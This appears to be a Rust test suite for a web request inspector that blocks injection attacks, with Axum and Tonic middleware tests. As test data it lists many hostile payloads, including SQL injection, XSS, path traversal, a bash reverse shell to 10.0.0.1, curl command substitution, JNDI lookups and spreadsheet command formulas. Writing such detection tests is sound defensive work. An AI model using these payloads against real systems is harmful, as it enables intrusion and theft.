//! Inspection: what is found, what is not, and the layer on Axum and Tonic.

use forge_monitor::{Family, Inspection, Inspector, Level, Verdict};
use proptest::prelude::*;

/// The value as a browser would send it in a query.
fn of_value(value: &str) -> Inspection {
    let encoded: String = value
        .bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                char::from(byte).to_string()
            }
            byte => format!("%{byte:02x}"),
        })
        .collect();
    of_target(&format!("/api/items?q={encoded}"))
}

fn of_target(target: &str) -> Inspection {
    Inspector::new().inspect_text(target.as_bytes(), [])
}

/// Every value is refused at the low level, by a rule of this family.
fn all_found(family: &str, values: &[&str]) {
    for value in values {
        let inspection = of_value(value);
        assert_eq!(
            inspection.verdict(Level::Low),
            Verdict::Block,
            "{value}: {:?}",
            inspection.matches()
        );
        let families: Vec<_> = inspection.families().map(Family::as_str).collect();
        assert!(families.contains(&family), "{value}: {families:?}");
    }
}

#[test]
fn finds_sql() {
    all_found(
        "sql_injection",
        &[
            "1' or '1'='1",
            "x\" or \"a\"=\"a",
            "admin'--",
            "admin' #",
            "1 or 1=1",
            "7) and 3=3--",
            "1' in boolean mode) union all select null#",
            "-5 union/**/all/*!50000select*/ 1,2,3",
            "1;waitfor delay '0:0:9'--",
            "5' and sleep(3) and 'q'='q",
            "1 and 7=(select 7 from pg_sleep(4))",
            "1' order by 12-- -",
            "1 group by 1,2 having 5=5",
            "1' procedure analyse(extractvalue(1,concat(0x5c,version())),1)#",
            "'; drop table users; --",
            "1; exec xp_cmdshell('dir')",
            "' union select load_file('/x')-- ",
            "1' into outfile '/var/www/a.php'-- ",
            "(select case when 2=3 then 1 else 1/(select 0) end)",
            "chr(65)||chr(66)||chr(67)",
            "1'||(select user from dual)||'",
            "select table_name from information_schema.tables",
            "1' && '1'='1",
            "' or true-- ",
            "0x31 or 0x1=0x1",
            "1`=`1` and `1`=`1",
            "INFORMATION_SCHEMA",
            "or 1=1",
            " or 3=3 -- -",
            "and x=x#",
            "having 4=4--",
            "order by 7-- -",
            "or true--",
            "1or1=1",
            "x'+or+length(a)>2--+-",
            "$$ order by 4",
            "x$$; select pg_sleep(3)--",
            "1' and mod(4,3) order by 2-- -",
            "1' div 2",
            "a') collate b-- -",
            "x') in (1,2)#",
            "1';attach database 'x' as y--",
            "5 and name like '%a%'",
            "5 or name is not null",
            "a or mid(user(),1,1)='r'",
            "'||utl_http.request",
            r"\x27 or 1=1--",
            "&apos; or 1=1--",
            "(select top 1",
        ],
    );
}

#[test]
fn finds_operators_of_document_databases() {
    for target in [
        "/find?q=1,%20$where:%20'1%20==%201'",
        "/login?user[$ne]=x&password[$gt]=",
        "/find?q=%7B%22$where%22:%22sleep(1)%22%7D",
    ] {
        assert_eq!(
            of_target(target).verdict(Level::Low),
            Verdict::Block,
            "{target}"
        );
    }
}

#[test]
fn finds_script() {
    all_found(
        "xss",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//h/x>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=confirm`1`>",
            "' onmouseover=alert(1) x='",
            "java\tscript:alert(1)",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<iframe src=//h></iframe>",
            "<div style=\"width:expression(alert(1))\">",
            "\";alert(1);//",
            "'-confirm(document.cookie)-'",
            "<math><mi xlink:href=data:x>",
            "\\x3cscript\\x3ealert(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "[][(![]+[])[+[]]]",
            "+ADw-script+AD4-",
            "</script><b>",
            "[1].find(alert)",
            "a=alert,a(1)",
            "confirm.call(null,1)",
            "onerror=alert;throw 1",
            "x.then(e=>eval(e.data))",
            "import('//h/x.js')",
            r"\74script\76alert(1)",
            "<\u{17f}cript src=//h>",
            "\"o<x>nfocus=alert<x>(1)//",
            "<div v-html='x'></div>",
            "<a @click=x>y</a>",
            "<a href=\"//h/x\">x</a>",
        ],
    );
}

#[test]
fn finds_paths() {
    all_found(
        "path_traversal",
        &[
            "../../../../etc/passwd",
            "..\\..\\boot.ini",
            "....//....//etc/hosts",
            "/etc/shadow",
            "c:\\windows\\win.ini",
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/hosts",
            "/proc/self/environ",
            "../../x.png\0.jpg",
            "/var/www/html/wp-config.php",
            "/etc/any.thing",
            "/opt/any/httpd.conf",
            "x.php::$DATA",
            "\u{ff0e}\u{ff0e}\u{2216}\u{ff0e}\u{ff0e}\u{2216}windows",
        ],
    );
    for target in [
        "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/?f=..%252f..%252fetc%252fpasswd",
        "/?f=..%c0%af..%c0%afetc/passwd",
        "/?f=%uff0e%uff0e/%uff0e%uff0e/x",
        "/.git/config",
        "/.env",
    ] {
        assert_eq!(
            of_target(target).verdict(Level::Low),
            Verdict::Block,
            "{target}"
        );
    }
}

#[test]
fn finds_commands() {
    all_found(
        "command_injection",
        &[
            ";id",
            "| cat /etc/hostname",
            "a && whoami",
            "`uname -a`",
            "$(curl http://h/x)",
            ";w'h'o\"am\"i",
            ";c\\at /tmp/x",
            "x;cat${IFS}/tmp/x",
            "() { :;}; echo x",
            "& ping -n 9 127.0.0.1 &",
            "127.0.0.1\nls -la",
            "{cat,/tmp/x}",
            "; powershell -enc SQBFAFgA",
            "for %a in (a,b) do x",
            "if not exist a.txt echo x",
            "| dir c:\\",
            "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "127.0.0.1\nenv",
            "1\r\nnslookup h",
            "'& net user",
            "x || echo y",
            "192.0.2.1 & ping h",
            "1 ; ps aux #",
            "`sleep 5`",
            "a`id`",
            "sudo id",
        ],
    );
}

#[test]
fn finds_code_and_lookups() {
    all_found(
        "code_injection",
        &[
            "${jndi:ldap://h/a}",
            "${${lower:j}${::-n}di:ldap://h/a}",
            "{{7*7}}",
            "{{constructor.constructor('x')()}}",
            "<%= 7*7 %>",
            "#{7*7}",
            "${T(java.lang.Runtime).getRuntime()}",
            "<?php system('x')",
            "O:8:\"stdClass\":0:{}",
            "class.module.classLoader.x",
            "__proto__[x]",
            "'.system('id').'",
            "'; return true; var x='a",
            "';d=new Date();do{c=new Date()}while(c-d<9);",
            "${${date:'j'}ndi:ldap://h}",
            "@(7*7)",
            "count(/child::node())",
            "db.any.drop()",
            ";print(md5('x'));//",
            "(system)('id')",
            "('sys'.'tem')('id')",
            "$_x['a'](1)",
            "curl_init()",
            "=cmd|'/c calc'!a1",
            "@sum(1)*cmd|'/c calc'!a1",
        ],
    );
}

#[test]
fn finds_headers_in_values() {
    all_found(
        "protocol",
        &[
            "x\r\nSet-Cookie: a=b",
            "x\nHTTP/1.1 200 OK",
            "x\r\nX-Any-Header: y",
            "x\r\nGET /y",
            "GET http://h/ HTTP/1.1",
            "*(|(mail=*))",
            "x)(&)",
            "\u{560a}\u{560d}set-cookie: a=b",
            "*)(uid=*))(|(uid=*",
        ],
    );
}

#[test]
fn finds_addresses_a_server_is_made_to_fetch() {
    all_found(
        "request_forgery",
        &[
            "http://169.254.169.254/latest/",
            "http://2130706433/",
            "http://127.1/",
            "http://0177.0.0.1/x",
            "http://[::ffff:127.0.0.1]/",
            "gopher://h:6379/_x",
            "http://192.0.2.7/x.php",
            "http://h.example/x.txt?",
        ],
    );
    let include = of_target("/x.php?_conf[path]=https://h.example");
    assert_eq!(include.verdict(Level::Low), Verdict::Block);
    let other = of_target("/x.php?next=https://h.example/path");
    assert_eq!(other.score(), 0);
}

#[test]
fn finds_scripts_by_the_names_of_uploads() {
    let upload = |name: &str, file: &str| {
        let headers = [(name.as_bytes(), file.as_bytes())];
        Inspector::new().inspect_text(b"/upload", headers)
    };
    for (name, file) in [
        ("X-Filename", "a.php"),
        ("x-file-name", "b.PHTML.."),
        ("x_filename", "c.php5"),
    ] {
        let verdict = upload(name, file).verdict(Level::Low);
        assert_eq!(verdict, Verdict::Block, "{file}");
    }
    assert_eq!(upload("x-filename", "photo.jpg").score(), 0);
    assert_eq!(upload("x-file", "a.php").score(), 0);
}

#[test]
fn finds_tools_by_their_names() {
    let of =
        |agent: &str| Inspector::new().inspect_text(b"/", [(&b"user-agent"[..], agent.as_bytes())]);
    for agent in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 Nikto/2.5",
        "nuclei - x",
    ] {
        assert_eq!(of(agent).verdict(Level::Low), Verdict::Block, "{agent}");
    }
    for agent in [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "curl/8.5.0",
        "Wget/1.21",
        "python-requests/2.31",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "WordPress/6.4; https://example.org",
        "kube-probe/1.29",
        "Prometheus/2.45.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A.220624.014)",
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)",
        "-",
        "",
    ] {
        assert_eq!(of(agent).score(), 0, "{agent}: {:?}", of(agent).matches());
    }
}

/// What people and programs send: at the low level it passes.
#[test]
fn lets_values_of_all_kinds_pass() {
    for value in [
        "O'Brien",
        "D'Angelo & Sons",
        "R&D",
        "AT&T",
        "C++",
        "C#",
        "a+b=c",
        "1=1",
        "2 + 2 = 4",
        "x > 5 and y < 3",
        "rock 'n' roll",
        "the students' union selects a president",
        "select a plan from the list",
        "Please select all that apply (select one or more)",
        "drop me a line",
        "insert coin to continue",
        "update your profile set",
        "delete from cart",
        "union of the sets",
        "where there is a will and a way",
        "order by 5 pm",
        "\"quoted\" or \"unquoted\"",
        "it's 5 o'clock somewhere -- or is it?",
        "Who's on first?",
        "l'été d'Anaïs",
        "¿Qué tal? ¡Muy bien!",
        "日本語のテキスト",
        "user@example.org",
        "https://example.org/a/b?c=d&e=f#g",
        "http://192.0.2.7:8080/status",
        "550e8400-e29b-41d4-a716-446655440000",
        "dGhpcyBpcyBiYXNlNjQ=",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
        "/home/user/notes.txt",
        "C:\\Users\\me\\notes.txt",
        "{\"name\":\"x\",\"list\":[1,2,3]}",
        "# Heading\n\n- item\n- `code`",
        "[link](https://example.org)",
        "**bold** and _italic_",
        "fn main() { println!(\"hi\"); }",
        "std::collections::HashMap<String, Vec<u8>>",
        "if (a && b || c) return;",
        "x -> y, a <- b, <3",
        "100% sure; 50% off!",
        "$100",
        "name|email|phone",
        "date;time;place",
        "find more; less time",
        "cats & dogs",
        "JavaScript: The Good Parts",
        "How do I use the alert function?",
        "Tom & Jerry (1940)",
        "price<100",
        "<3 you",
        "a<b and c>d",
        "Hello {name}, welcome",
        "2024-01-31T12:00:00+01:00",
        "+1 (555) 010-9999",
        "gb-GB,en;q=0.8",
        "sort=name,-date",
        "id:>100 label:bug is:open",
        "status = 'open' AND assignee = 'bob'",
        "c/ san blas 88, 1-b",
        "colorful `cat`",
        "* Mark `Foo` as `#[must_use]`, and use `cargo fuzz` with it",
        "Base32 encoder/decoder",
        "Axel Beckert <axel@example.org>",
        "Parses /etc/os-release files on several distributions",
        "if it exists, for all of them",
        "see the [guide](../guide.md) first",
        // Markdown, and other documentation.
        "`cargo add bstr`",
        "2. Create your feature branch (`git checkout -b my-feature`)",
        "[`nc`], [`uapi`] and [`retry`]",
        "`fmt::Debug`implementation",
        "`Users::refresh_list`, `Groups::refresh_list`",
        "Fixed `Layer::on_layer` for `Box`ed `Layer`s",
        "run ``pip download`` or ``pip wheel``",
        "takes a `task description` and a `prompt` and tunes them",
        "the most handy way to use <svg> on the web",
        "inclusion in HTML <script> environments",
        "adds class name(s) to document.body",
        "a version of phpinfo(), but for Python",
        "like eval() but it doesn't run",
        "keeps its state in localStorage.",
        "[PHP](https://example.org)",
        "[#1](https://example.org/exec)",
        // Words that are commands, and text that has the signs of them.
        "Hashing Algorithm | Python",
        "a bridge for x|Python",
        "| LoongArch64 | Linux | GCC |",
        "I'd love to go out with you",
        "\"I'd love to\", he said",
        "tail -f works on append-only files again",
        "kill -9 leaves the lock of the store behind",
        "nice cat",
        "npm i some-package -g",
        "the --(import|export)-marks options",
        "the first/last round key; input/output",
        "the path to analyze-{cc,c++}",
        "pip requirements.txt generator based on imports in a project",
        "/etc/network/interfaces \u{6587}\u{4ef6}\u{7684}\u{6761}\u{76ee}",
        "/dev/sda",
        // SQL in prose.
        "6+(1/4*6)=6+1.25=7.25",
        "spell checking, using \"C\" and \"$\" in 'x'",
        "when 'selection' is \"exclusive\" then \"v\" is short",
        "systemd-sleep.conf(5)",
        "create or replace function",
        "a) or b) or both",
        "James' and John's",
        // Addresses of data, names, passwords.
        "data:image/png;base64,iVBORw0KGgo=",
        "C:\\Program Files\\App\\app.exe",
        "java script: the guide",
        "alert (system)",
        "PHP: eval()",
        "**bold** `ls -la` text",
        "p'w\"d;--x",
        "x7$kL(9)#q",
        "http://127.0.0.1:8080/callback",
        "5' 6\" or taller",
        "user=\"*\"",
    ] {
        let inspection = of_value(value);
        assert_eq!(
            inspection.verdict(Level::Low),
            Verdict::Pass,
            "{value}: {:?}",
            inspection.matches()
        );
    }
}

#[test]
fn lets_ordinary_targets_pass() {
    for target in [
        "/",
        "/wp-login.php",
        "/wp-content/themes/x/style.css?ver=6.4.2",
        "/wp-admin/admin-ajax.php?action=heartbeat",
        "/xmlrpc.php",
        "/2024/01/what-is-sql-injection/",
        "/search?q=select+from+where&page=2",
        "/a/b%20c/d.html",
        "/robots.txt",
        "/.well-known/acme-challenge/x_y-z",
        "/.well-known/security.txt",
        "/feed/?paged=2",
        "/index.php?option=com_content&view=article&id=5:news&Itemid=9",
        "/owner/repo.git/info/refs?service=git-upload-pack",
        "/api/v1/users?filter%5Bname%5D=x&include=a,b&sort=-created",
        "/maps/@48.8,2.3,12z",
        "/auth/callback?code=4/0AX4XfWh&state=eyJhIjoxfQ%3D%3D&scope=openid%20email",
        "*",
    ] {
        let inspection = of_target(target);
        assert_eq!(
            inspection.score(),
            0,
            "{target}: {:?}",
            inspection.matches()
        );
    }
}

#[test]
fn what_it_saw_is_safe_to_log() {
    let inspection = of_target("/?%1b[31m%0a=%1b%0a'%20or%20'1'='1%ff%00");
    assert!(!inspection.matches().is_empty());
    for found in inspection.matches() {
        let text = found.to_string();
        assert!(!text.chars().any(char::is_control), "{text:?}");
        assert!(text.len() < 1024);
    }
}

/// Pieces that attacks are made of, in any order.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("'".to_owned()),
        Just("\"".to_owned()),
        Just("<".to_owned()),
        Just("%".to_owned()),
        Just("%25".to_owned()),
        Just("%u00".to_owned()),
        Just("%c0%".to_owned()),
        Just("${".to_owned()),
        Just("{{".to_owned()),
        Just("/*!".to_owned()),
        Just("*/".to_owned()),
        Just("--".to_owned()),
        Just("(".to_owned()),
        Just(")".to_owned()),
        Just("`".to_owned()),
        Just(";".to_owned()),
        Just("|".to_owned()),
        Just("&#".to_owned()),
        Just("\\u".to_owned()),
        Just("../".to_owned()),
        Just(" or ".to_owned()),
        Just("select ".to_owned()),
        Just("union ".to_owned()),
        Just("on=".to_owned()),
        Just("script:".to_owned()),
        Just("cat ".to_owned()),
        Just("$(".to_owned()),
        Just("\u{ff07}".to_owned()),
        "[a-z0-9=., \\n\\\\]{1,6}",
        any::<char>().prop_map(String::from),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn nothing_makes_it_panic(
        pieces in proptest::collection::vec(piece(), 0..40),
        bytes in proptest::collection::vec(any::<u8>(), 0..200),
    ) {
        let text = pieces.concat();
        let inspector = Inspector::new();
        let headers = [
            (&b"cookie"[..], text.as_bytes()),
            (&b"User-Agent"[..], text.as_bytes()),
            (&b"referer"[..], &bytes[..]),
            (&b"x-any"[..], &bytes[..]),
        ];
        let mut target = format!("/{text}?{text}&a={text}&b=").into_bytes();
        target.extend(&bytes);
        let inspection = inspector.inspect_text(&target, headers);
        let worst: u32 = inspection.matches().iter().map(|found| found.score).sum();
        prop_assert!(inspection.score() <= worst);
        for found in inspection.matches() {
            prop_assert!(found.saw.len() < 1000);
        }
        let again = inspector.inspect_text(&target, headers);
        prop_assert_eq!(inspection.matches(), again.matches());
    }

    #[test]
    fn case_and_escapes_hide_nothing(upper in any::<[bool; 24]>(), rounds in 1..=3usize) {
        let attack = "1' UNION SELECT NULL--xy";
        let cased = attack.chars().zip(upper).map(|(c, upper)| {
            if upper { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }
        });
        let mut value: String = cased.collect();
        for _ in 0..rounds {
            value = value
                .bytes()
                .map(|byte| match byte {
                    b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' => char::from(byte).to_string(),
                    byte => format!("%{byte:02X}"),
                })
                .collect();
        }
        let inspection = of_target(&format!("/?q={value}"));
        prop_assert_eq!(inspection.verdict(Level::Low), Verdict::Block);
    }
}

/// Twice the bytes cost about twice as much, whatever they are: no input makes it slow. Counted are
/// not seconds but what a hostile value of the largest size makes of them all.
#[test]
fn the_longest_hostile_values_are_read_to_the_end() {
    for unit in [
        "'", "<", "(", "%25", "${", "on", "..", "a or ", "`", "\\u", "&#", "/*", "select ", "{{",
        ":", "|w",
    ] {
        let value = unit.repeat(60_000 / unit.len());
        let inspection = of_target(&format!("/?q={value}"));
        assert!(!inspection.is_truncated(), "{unit}");
    }
}

#[cfg(feature = "axum")]
mod axum {
    use std::collections::VecDeque;
    use std::pin::Pin;
    use std::sync::{Arc, Mutex};
    use std::task::{Context, Poll};

    use ::axum::Router;
    use ::axum::body::Body;
    use ::axum::routing::{get, post};
    use bytes::Bytes;
    use forge_monitor::{
        InspectLayer, InspectMode, InspectOutcome, Inspection, Level, RefusedByInspection,
    };
    use http::request::Parts;
    use http::{Request, Response, StatusCode};
    use http_body::Frame;
    use http_body_util::BodyExt;
    use tower::ServiceExt;

    const ATTACK: &str = "/items?q=1'%20or%20'1'='1";

    type Told = Arc<Mutex<Vec<(InspectOutcome, u32)>>>;

    fn watched(layer: InspectLayer) -> (Router, Told) {
        let told = Told::default();
        let seen = Arc::clone(&told);
        let layer = layer.on_inspection(
            move |_: &Parts, inspection: &Inspection, outcome: InspectOutcome| {
                seen.lock().unwrap().push((outcome, inspection.score()));
            },
        );
        let app = Router::new()
            .route("/items", get(|| async { "items" }))
            .route("/below/x", get(|| async { "below" }))
            .layer(layer);
        (app, told)
    }

    async fn get_of(app: &Router, target: &str) -> Response<Body> {
        let request = Request::get(target).header("x-request-id", "0191-ab");
        let request = request.body(Body::empty()).unwrap();
        app.clone().oneshot(request).await.unwrap()
    }

    async fn text(response: Response<Body>) -> String {
        let body = response.into_body().collect().await.unwrap().to_bytes();
        String::from_utf8(body.to_vec()).unwrap()
    }

    #[tokio::test]
    async fn a_suspicious_request_is_told_in_detect_and_refused_in_block() {
        let (app, told) = watched(InspectLayer::new(InspectMode::Detect));
        assert_eq!(get_of(&app, ATTACK).await.status(), StatusCode::OK);
        assert_eq!(told.lock().unwrap()[0].0, InspectOutcome::Suspicious);

        let (app, told) = watched(InspectLayer::new(InspectMode::Block));
        let refused = get_of(&app, ATTACK).await;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);
        assert!(refused.extensions().get::<RefusedByInspection>().is_some());
        let problem = text(refused).await;
        assert!(problem.contains(r#""request_id":"0191-ab""#), "{problem}");
        assert!(!problem.contains("sql"), "{problem}");
        assert_eq!(get_of(&app, "/items?q=x").await.status(), StatusCode::OK);
        let told = told.lock().unwrap();
        assert_eq!(told[0].0, InspectOutcome::Refused);
        assert!(told[0].1 >= 10);
        assert_eq!(told[1], (InspectOutcome::Clean, 0));
    }

    #[tokio::test]
    async fn nothing_is_inspected_where_it_is_off() {
        let (app, told) = watched(InspectLayer::new(InspectMode::Off));
        assert_eq!(get_of(&app, ATTACK).await.status(), StatusCode::OK);
        assert!(told.lock().unwrap().is_empty());
    }

    #[tokio::test]
    async fn the_high_level_refuses_more() {
        let words = "/items?q=%3Cb%20class=x%3E";
        let (app, told) = watched(InspectLayer::new(InspectMode::Block));
        assert_eq!(get_of(&app, words).await.status(), StatusCode::OK);
        assert_eq!(told.lock().unwrap()[0].0, InspectOutcome::Suspicious);
        let (app, _) = watched(InspectLayer::new(InspectMode::Block).level(Level::High));
        assert_eq!(get_of(&app, words).await.status(), StatusCode::FORBIDDEN);
    }

    #[tokio::test]
    async fn exempt_paths_pass_unread_and_only_they() {
        let layer = InspectLayer::new(InspectMode::Block)
            .exempt_path("/items")
            .exempt_path("/below/");
        let (app, told) = watched(layer);
        assert_eq!(get_of(&app, ATTACK).await.status(), StatusCode::OK);
        assert_eq!(
            get_of(&app, "/below/x?q=%3Cscript%3E").await.status(),
            StatusCode::OK
        );
        assert!(told.lock().unwrap().is_empty());
        for target in [
            "/items/?q=%3Cscript%3E",
            "/itemsx?q=%3Cscript%3E",
            "/below/%2e%2e/items?q=%3Cscript%3E",
            "/below/../items?q=%3Cscript%3E",
        ] {
            let status = get_of(&app, target).await.status();
            assert_eq!(status, StatusCode::FORBIDDEN, "{target}");
        }
    }

    fn forms(max: usize) -> Router {
        let echo = |body: String| async move { body };
        let layer = InspectLayer::new(InspectMode::Block);
        Router::new()
            .route("/form", post(echo))
            .route("/free", post(echo))
            .layer(layer.forms(|parts: &Parts| parts.uri.path() == "/form", max))
    }

    async fn post_to(app: &Router, path: &str, kind: &str, body: Body) -> Response<Body> {
        let request = Request::post(path).header("content-type", kind);
        app.clone()
            .oneshot(request.body(body).unwrap())
            .await
            .unwrap()
    }

    const FORM: &str = "application/x-www-form-urlencoded";

    #[tokio::test]
    async fn forms_are_read_where_asked_for_and_passed_on_unchanged() {
        let app = forms(64);
        let good = "a=b&c=d%20e";
        let passed = post_to(&app, "/form", FORM, good.into()).await;
        assert_eq!(passed.status(), StatusCode::OK);
        assert_eq!(text(passed).await, good);

        let bad = "a=1'+or+'1'%3d'1";
        let refused = post_to(&app, "/form", FORM, bad.into()).await;
        assert_eq!(refused.status(), StatusCode::FORBIDDEN);
        for (path, kind) in [
            ("/free", FORM),
            ("/form", "application/json"),
            ("/form", "text/markdown"),
        ] {
            let passed = post_to(&app, path, kind, bad.into()).await;
            assert_eq!(passed.status(), StatusCode::OK, "{path} {kind}");
            assert_eq!(text(passed).await, bad);
        }
    }

    #[tokio::test]
    async fn a_form_longer_than_is_read_arrives_whole() {
        let app = forms(64);
        let chunks = vec![
            format!("a={}", "x".repeat(100)),
            "y".repeat(5000),
            "&b='".to_owned(),
        ];
        let whole = chunks.concat();
        let body = Frames::body(chunks.into_iter().map(Ok));
        let passed = post_to(&app, "/form", FORM, body).await;
        assert_eq!(passed.status(), StatusCode::OK);
        assert_eq!(text(passed).await, whole);
    }

    #[tokio::test]
    async fn a_form_that_breaks_off_is_an_error_to_who_reads_it() {
        let app = forms(64);
        let body = Frames::body([Ok("a=b".to_owned()), Err(std::io::Error::other("gone"))]);
        let answer = post_to(&app, "/form", FORM, body).await;
        assert!(answer.status().is_client_error(), "{}", answer.status());
    }

    /// A body that comes in these frames.
    struct Frames(VecDeque<Result<Frame<Bytes>, std::io::Error>>);

    impl Frames {
        fn body(frames: impl IntoIterator<Item = Result<String, std::io::Error>>) -> Body {
            let frames = frames.into_iter();
            Body::new(Self(
                frames
                    .map(|frame| frame.map(|data| Frame::data(data.into())))
                    .collect(),
            ))
        }
    }

    impl http_body::Body for Frames {
        type Data = Bytes;
        type Error = std::io::Error;

        fn poll_frame(
            mut self: Pin<&mut Self>,
            _: &mut Context<'_>,
        ) -> Poll<Option<Result<Frame<Bytes>, std::io::Error>>> {
            Poll::Ready(self.0.pop_front())
        }
    }
}

#[cfg(feature = "tonic")]
mod tonic {
    use ::tonic::Code;
    use ::tonic::transport::{Server, server::TcpIncoming};
    use forge_monitor::{InspectLayer, InspectMode};
    use tonic_health::pb::HealthCheckRequest;

    #[tokio::test]
    async fn a_suspicious_call_is_denied_permission() {
        let listener = test_support::listener().await;
        let addr = listener.local_addr().unwrap();
        tokio::spawn(
            Server::builder()
                .layer(InspectLayer::new(InspectMode::Block))
                .add_service(test_support::health_service())
                .serve_with_incoming(TcpIncoming::from(listener)),
        );
        let mut client = test_support::health_client(addr).await;
        client.check(HealthCheckRequest::default()).await.unwrap();
        let mut request = ::tonic::Request::new(HealthCheckRequest::default());
        let lookup = "${jndi:ldap://h/a}".parse().unwrap();
        request.metadata_mut().insert("x-note", lookup);
        let denied = client.check(request).await.unwrap_err();
        assert_eq!(denied.code(), Code::PermissionDenied);
    }
}
